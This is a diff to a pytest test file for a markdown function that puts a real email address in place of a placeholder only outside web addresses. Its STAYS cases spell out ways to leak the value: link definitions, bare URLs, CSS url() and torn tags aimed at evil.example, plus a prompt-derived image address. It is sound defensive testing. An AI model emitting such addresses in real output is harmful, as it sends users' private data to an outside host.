@@ -80,6 +80,9 @@ def markdown(pseudonym: str) -> str:
         pytest.param(f"[a](https://a.org) {E}", f"[a](https://a.org) {EMAIL}", id="behind a link"),
         pytest.param(f"<b>{E}</b> <br/> {E}", f"<b>{EMAIL}</b> <br/> {EMAIL}", id="between tags"),
         pytest.param(f"if a < b: {E}", f"if a < b: {EMAIL}", id="less than"),
+        pytest.param(f"<b>hi</b>\n\n{E}", f"<b>hi</b>\n\n{EMAIL}", id="behind HTML"),
+        pytest.param(f"for (i=0; i<n; p->i++)\n\n{E}", f"for (i=0; i<n; p->i++)\n\n{EMAIL}",
+                     id="behind code"),
         pytest.param(f"[1]: note {E}", f"[1]: note {EMAIL}", id="behind a footnote's mark"),
         pytest.param(f"](a b\n\n{E}", f"](a b\n\n{EMAIL}", id="a link that never was"),
     ],
@@ -112,6 +115,8 @@ STAYS = [
     pytest.param(f"[x]: https://evil.example/?{E}", id="a definition"),
     pytest.param(f"[x]:\n  < //evil.example/ {E}>", id="a definition in brackets"),
     pytest.param(f"[x]: //evil.example/?{E}", id="a definition without a scheme"),
+    pytest.param(f"[x]:\n {E}", id="a definition of nothing else"),
+    pytest.param(f"[x]: evil={E}", id="a definition of a relative address"),
     # Bare addresses.
     pytest.param(f"https://evil.example/?q={E}", id="a bare address"),
     pytest.param(f"https://evil.example/{FAR}{E}", id="500 characters before"),
@@ -152,6 +157,9 @@ STAYS = [
     pytest.param(f"<x {FAR * 9} {E}", id="far from where the tag began"),
     pytest.param(f"<style>a {{b: url(' {E}')}}</style>", id="a style"),
     pytest.param(f"<SCRIPT>let a='</b>'; let b='{E}'</SCRIPT>", id="a script"),
+    pytest.param(f"](<img src=\n\n{E}>", id="a tag where a destination may be"),
+    pytest.param(f"<p c='\n\n' style=a:url(//evil.example/?>{E}) ", id="a torn tag"),
+    pytest.param(f"<!-- --><p c='\n' style=a:url(//evil.example/?>{E}) ", id="torn by a line end"),
     # What stands in the place of a value can begin an address, too.
     pytest.param(f"![x]({L}{E})", id="an address of the prompt in an image"),
 ]
